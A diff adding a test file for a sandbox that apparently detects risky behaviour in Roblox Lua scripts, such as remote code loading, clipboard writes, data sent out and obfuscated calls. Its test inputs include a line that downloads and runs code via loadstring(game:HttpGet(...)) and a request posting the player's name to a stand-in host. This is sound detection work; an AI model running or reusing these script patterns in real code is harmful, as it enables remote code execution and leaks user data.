@@ -1,0 +1,75 @@
+import { afterAll, describe, expect, test } from 'vitest'
+import { analyze, type CapabilityId, mergeRun } from '../src/index.ts'
+import { Sandbox } from '../src/sandbox/sandbox.ts'
+
+const sandbox = new Sandbox()
+afterAll(() => sandbox.close())
+
+const idsOf = async (code: string): Promise<CapabilityId[]> =>
+  (await sandbox.run(code)).capabilities.map(({ id }) => id)
+const detailsOf = async (code: string, id: CapabilityId): Promise<string[]> => {
+  const finding = (await sandbox.run(code)).capabilities.find((one) => one.id === id)
+  return (finding?.evidence ?? []).map(({ line, detail }) => `${line} ${detail}`)
+}
+
+describe('compile', () => {
+  test('accepts code that compiles', async () => {
+    expect(await sandbox.compile('local x: number = 1\nx += 2')).toEqual({ compiles: true, error: null })
+    expect(await sandbox.compile('')).toEqual({ compiles: true, error: null })
+  })
+
+  test('names the line and the reason of the first error', async () => {
+    expect(await sandbox.compile('local x = 1\nfoo(')).toEqual({
+      compiles: false,
+      error: { line: 2, column: null, message: 'Expected identifier when parsing expression, got <eof>' },
+    })
+  })
+
+  test.each([
+    ['nested too deeply', `\nreturn ${'('.repeat(1500)}1${')'.repeat(1500)}`, /recursion depth/],
+    ['needs too many registers', `\nf(${Array.from({ length: 300 }, (_, i) => i).join()})`, /exceeded limit 255/],
+  ])('refuses code that %s', async (_, code, message) => {
+    const { compiles, error } = await sandbox.compile(code)
+    expect(compiles).toBe(false)
+    expect(error).toMatchObject({ line: 2, message: expect.stringMatching(message) as string })
+  })
+})
+
+test('analyzes a script as the analyzer does', async () => {
+  const code = 'loadstring(game:HttpGet("https://a.com"))()'
+  expect(await sandbox.analyze(code)).toEqual(analyze(code))
+})
+
+describe('run', () => {
+  test('sees downloads that are run, and goes on with what they return', async () => {
+    const code =
+      'local Hub = loadstring(game:HttpGet("https://a.com/hub"))()\nHub:AddButton({Callback = function() setclipboard("x") end})'
+    expect(await detailsOf(code, 'code.remote')).toEqual(['1 loadstring of a download: https://a.com/hub'])
+    expect(await detailsOf(code, 'user.clipboard')).toEqual(['2 setclipboard x'])
+  })
+
+  test('sees data about the player in what is sent', async () => {
+    const code = `request({Url = "https://a.com", Method = "POST", Body = game.HttpService:JSONEncode({n = game.Players.LocalPlayer.Name .. "!"})})`
+    expect(await detailsOf(code, 'net.exfiltration')).toEqual(['1 request with the player name'])
+  })
+
+  test('says what stopped it', async () => {
+    expect((await sandbox.run('setclipboard("x")\nwhile true do end')).opaque).toEqual([
+      { reason: 'The run was stopped after 3 seconds', count: 1 },
+    ])
+    expect((await sandbox.run('local t = {} while true do t[#t + 1] = {t} end')).opaque).toEqual([
+      { reason: 'The run was stopped because it used too much memory', count: 1 },
+    ])
+  })
+
+  test('names functions of executors without which a script breaks', async () => {
+    expect(await detailsOf('print(1)\nsetclipboard("x")', 'needs.executor')).toEqual(['2 setclipboard'])
+    expect(await idsOf('if setclipboard then setclipboard("x") end')).toEqual(['user.clipboard'])
+  })
+
+  test('adds to a card what reading did not find', async () => {
+    const code = 'local k = {["a"] = "set" .. "clip"}\ngetfenv()[k[("A"):lower()] .. "board"]("x")'
+    const card = mergeRun(analyze(code), await sandbox.run(code))
+    expect(card.capabilities.find(({ id }) => id === 'user.clipboard')?.evidence).toMatchObject([{ line: 2 }])
+  })
+})
